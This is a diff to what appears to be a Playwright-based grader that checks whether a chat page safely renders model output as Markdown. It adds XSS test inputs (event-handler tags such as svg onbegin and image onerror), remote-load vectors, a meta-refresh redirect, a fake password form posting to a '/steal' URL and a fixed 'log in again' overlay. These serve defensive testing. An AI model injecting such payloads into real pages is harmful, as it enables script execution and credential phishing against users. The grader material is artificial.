@@ -46,7 +46,8 @@ addEventListener("error", (e) => jsErrors.push(`${e.filename.split("/").pop()} �
 # 每一段都会被单独渲染在一个回答框里
 SCRIPTS = {
     "<img onerror>": "看图: <img src=x onerror=\"pwned.push('img onerror')\">",
-    "<svg onload>": "<svg onload=\"pwned.push('svg onload')\"></svg>",
+    "<svg><animate onbegin>": "<svg><animate onbegin=\"pwned.push('svg onbegin')\" attributeName=x dur=1s></animate></svg>",
+    "<image/src/onerror> (浏览器把 <image> 当成 <img>)": "<div>\n<image/src/onerror=pwned.push('image')>\n</div>",
     "<details ontoggle>": "<details open ontoggle=\"pwned.push('details ontoggle')\">展开</details>",
     "<iframe srcdoc>": "<iframe srcdoc=\"<script>parent.pwned.push('iframe srcdoc')</script>\"></iframe>",
     "<video><source onerror>": "<video><source onerror=\"pwned.push('source onerror')\"></video>",
@@ -65,7 +66,9 @@ LOADS = {
     "<video poster>": f'<video poster="{REMOTE}/poster.png"></video>',
     "<audio src>": f'<audio src="{REMOTE}/audio.mp3" autoplay></audio>',
     "<link rel=stylesheet>": f'<link rel="stylesheet" href="{REMOTE}/link.css">',
-    "<style>@import": f'<style>@import url("{REMOTE}/import.css");</style>',
+    "<style>@import (在一段文字之后)": f'先说一句。\n\n<style>@import url("{REMOTE}/import.css");</style>',
+    "<svg><image href>": f'<svg><image href="{REMOTE}/svg-image.png"></image></svg>',
+    "<image/src> (就是 <img>)": f"<div>\n<image/src={REMOTE}/image-tag.png>\n</div>",
     "style 属性里的 background": f"<p style=\"background:url('{REMOTE}/background.png')\">背景</p>",
     "<table background>": f'<table background="{REMOTE}/table.png"><tr><td>表</td></tr></table>',
     "<input type=image>": f'<input type="image" src="{REMOTE}/input.png">',
@@ -73,7 +76,8 @@ LOADS = {
     "<embed src>": f'<embed src="{REMOTE}/embed.swf">',
 }
 MARKDOWN = (
-    "**粗体** 和 `code`\n\n"
+    "## 小标题\n\n**粗体**、*斜体* 和 `code`\n\n"
+    "| 列 | 值 |\n|---|---|\n| 甲 | 1 |\n\n"
     '```js\nif (a < b && c > d) alert("<b>")\n```\n\n'
     "- 一\n- 二\n\n"
     f"[文档]({REMOTE}/docs?x=1&y=2)\n\n"
@@ -88,15 +92,17 @@ def launch(playwright: Any) -> Any:
     path = os.environ.get("CHROMIUM_PATH") or "/usr/bin/chromium"
     tries = [{"executable_path": path}] if Path(path).exists() else []
     tries += [{"channel": "chrome"}, {"channel": "msedge"}, {}]
+    first_error = ""
     for options in tries:
         try:
             return playwright.chromium.launch(args=CHROMIUM_ARGS, **options)
-        except Exception:  # noqa: BLE001 — 这个不行就试下一个
-            continue
+        except Exception as exc:  # noqa: BLE001 — 这个不行就试下一个
+            first_error = first_error or str(exc).strip().splitlines()[0]
     fail(
         "一个能用的 Chromium 或 Chrome (这个练习在真的浏览器里检查)",
-        "没有找到浏览器。Debian/Ubuntu: sudo apt-get install chromium; "
-        "其他系统: 装 Google Chrome, 或者 python -m playwright install chromium",
+        "没有启动成功的浏览器。Debian/Ubuntu: sudo apt-get install chromium; "
+        "其他系统: 装 Google Chrome, 或者 python -m playwright install chromium。"
+        f"第一次尝试的错误: {first_error}",
         SETUP,
     )
 
@@ -149,13 +155,13 @@ def open_tab(ex: Any) -> Any:
 
 class Page:
     """一个新加载的页面: vendor/ 的两个库和被检查的文件; 记下页面想发出的每一个请求和每一个 JS 错误。
-    所有检查共用一个浏览器标签页, 每次重新加载 (页面里的全局变量、设置和钩子都从头来过)。"""
+    每项检查一个新的标签页 (页面里的全局变量、设置和钩子都从头来过)。"""
 
     def __init__(self, ex: Any) -> None:
         self.requests: list[str] = []
-        if "page" not in _session:
-            _session["page"] = open_tab(ex)
-        self.page = _session["page"]
+        if "page" in _session:
+            _session["page"].close()  # 上一项检查的页面可能正在被模型输出带走 (meta refresh)
+        self.page = _session["page"] = open_tab(ex)
         _session["requests"] = self.requests  # 这一次加载之后的请求记在这里
         self.page.goto(f"{ORIGIN}/")
         if not self.page.evaluate("typeof renderAnswer === 'function'"):
@@ -167,6 +173,17 @@ class Page:
 
     def render(self, texts: list[str], prefixes: bool = False) -> list[dict[str, Any]]:
         """每段文字渲染进自己的回答框 (prefixes: 像流式那样, 用每一个前缀依次渲染); 等一会儿, 返回每个框的情况。"""
+        try:
+            return self._render(texts, prefixes)
+        except Exception as exc:  # noqa: BLE001 — 页面被带走时, 页面里正在运行的代码也没了
+            if "context was destroyed" not in str(exc):
+                raise
+            fail(
+                "页面留在原地: 模型的输出不能让整个页面跳走",
+                f"页面开始跳转到别处 (请求了 {show(list(dict.fromkeys(self.requests)))}); 是 <meta http-equiv=refresh> 吗?",
+            )
+
+    def _render(self, texts: list[str], prefixes: bool) -> list[dict[str, Any]]:
         result = self.page.evaluate(
             """async ([texts, prefixes]) => {
                 const boxes = [];
@@ -178,7 +195,7 @@ class Page:
                     try { for (const n of steps) renderAnswer(box, text.slice(0, n)); }
                     catch (e) { return { error: `${e.name}: ${e.message}`, text }; }
                 }
-                await new Promise((resolve) => setTimeout(resolve, 150));  // 让图片的 onerror、autofocus 有机会发生
+                await new Promise((resolve) => setTimeout(resolve, 250));  // 让图片的 onerror、autofocus 有机会发生
                 return { boxes: boxes.map((box) => ({
                     html: box.innerHTML,
                     text: box.textContent,
@@ -187,7 +204,7 @@ class Page:
                         target: a.getAttribute("target"), rel: a.getAttribute("rel") || "" })),
                     tags: [...box.querySelectorAll("*")].map((node) => node.tagName.toLowerCase()),
                     positioned: [...box.querySelectorAll("*")].some((node) =>
-                        ["fixed", "absolute"].includes(getComputedStyle(node).position)),
+                        ["fixed", "absolute", "sticky"].includes(getComputedStyle(node).position)),
                 })) };
             }""",
             [texts, prefixes],
@@ -212,11 +229,11 @@ def check_scripts_do_not_run(ex):
     if ran:
         fail(
             "模型的输出只是文字, 一行脚本都不运行",
-            f"运行了: {', '.join(ran)}。marked 把文字里的 HTML 原样留下, innerHTML 把它变成了页面的一部分",
+            f"运行了: {', '.join(ran)}。模型输出里带事件属性的 HTML 进了页面 (marked 原样保留文字里的 HTML; 清理的设置漏了它)",
         )
     for name, box in zip(LINKS, boxes[len(SCRIPTS) :], strict=True):
         for link in box["links"]:
-            if link["protocol"] not in ("http:", "https:", "mailto:", ""):
+            if link["protocol"] not in ("http:", "https:", "mailto:", "about:", ""):
                 fail(
                     "链接只能是 http/https/mailto: javascript: 链接被点一下就会运行脚本",
                     f"{name} 渲染成了 <a href={show(link['href'])}>",
@@ -245,11 +262,12 @@ def check_nothing_loads(ex):
 def check_page_intact(ex):
     """模型输出不能破坏页面: 样式、盖住页面的层、表单、<base>、冒充页面元素的 id"""
     attacks = [
-        "<style>#footer { display: none }</style>",
+        "先说一句。\n\n<style>#footer { display: none }</style>",
         '<div style="position: fixed; inset: 0; background: white">请重新登录</div>',
         f'<form action="{REMOTE}/steal"><input name="password" placeholder="请输入密码"></form>',
         f'<base href="{REMOTE}/">',
         '<button id="send">假的发送按钮</button> <a id="config" name="config">x</a>',
+        f'<meta http-equiv="refresh" content="0;url={REMOTE}/meta-refresh">',
     ]
     page = Page(ex)
     boxes = page.render(attacks)
@@ -271,38 +289,49 @@ def check_page_intact(ex):
         problems.append("回答里出现了表单和输入框 (可以用来骗密码)")
     if state["base"] != f"{ORIGIN}/":
         problems.append(f"<base> 把页面的基准网址改成了 {state['base']}")
-    if state["send"] != "BODY" or state["config"]:
+    if state["send"] != "BODY":
         problems.append(
             '模型输出的 id 冒充了页面的元素: document.getElementById("send") 找到的是回答里的按钮'
         )
+    if state["config"]:
+        problems.append("模型输出的 id/name 变成了全局变量: window.config 是回答里的元素")
     if problems:
         fail("页面的样子和行为不受模型输出影响", "; ".join(problems))
 
 
 def check_markdown_and_text(ex):
     """普通的 Markdown 照常显示, 文字一字不差; 链接在新窗口打开, 带 rel="noopener noreferrer\""""
-    (box,) = Page(ex).render([MARKDOWN])
+    raw_link = f'<a href="{REMOTE}/raw" target="_top" rel="opener">模型自己写的链接</a>'
+    box, raw = Page(ex).render([MARKDOWN, raw_link])
     for tag, what in [
+        ("h2", "## 小标题"),
         ("strong", "**粗体**"),
+        ("em", "*斜体*"),
         ("code", "`code`"),
         ("pre", "代码块"),
         ("li", "列表"),
+        ("td", "表格"),
     ]:
         if tag not in box["tags"]:
             fail(f"{what} 显示成 <{tag}>", f"回答框里的 HTML: {show(box['html'])}")
-    for piece in ['if (a < b && c > d) alert("<b>")', "1 < 2 && 3 > 2, 'single' \"double\""]:
+    for piece in [
+        'if (a < b && c > d) alert("<b>")',
+        "1 < 2 && 3 > 2, 'single' \"double\" <不是标签>",
+    ]:
         if piece not in box["text"]:
             fail(f"文字一字不差地显示: {show(piece)}", f"显示出来的是: {show(box['text'])}")
-    (link,) = box["links"] or [None]
     expected = f"{REMOTE}/docs?x=1&y=2"
-    if not link or link["href"] != expected:
+    if not any(link["href"] == expected for link in box["links"]):
         fail(f"[文档](...) 是一个指向 {expected} 的链接", f"回答框里的 HTML: {show(box['html'])}")
-    rel = set(link["rel"].split())
-    if link["target"] != "_blank" or not {"noopener", "noreferrer"} <= rel:
-        fail(
-            '链接带 target="_blank" 和 rel="noopener noreferrer": 在新窗口打开, 新窗口拿不到本页 (window.opener)',
-            f"target={show(link['target'])}, rel={show(link['rel'])}",
-        )
+    for where, links in [("Markdown 链接", box["links"]), ("模型输出里的 <a target=_top rel=opener>", raw["links"])]:  # fmt: skip
+        for link in links:
+            if link["target"] != "_blank" or not {"noopener", "noreferrer"} <= set(
+                link["rel"].split()
+            ):
+                fail(
+                    '每个链接都带 target="_blank" 和 rel="noopener noreferrer": 在新窗口打开, 新窗口拿不到本页 (window.opener)',
+                    f"{where}: target={show(link['target'])}, rel={show(link['rel'])}",
+                )
 
 
 def check_every_prefix(ex):
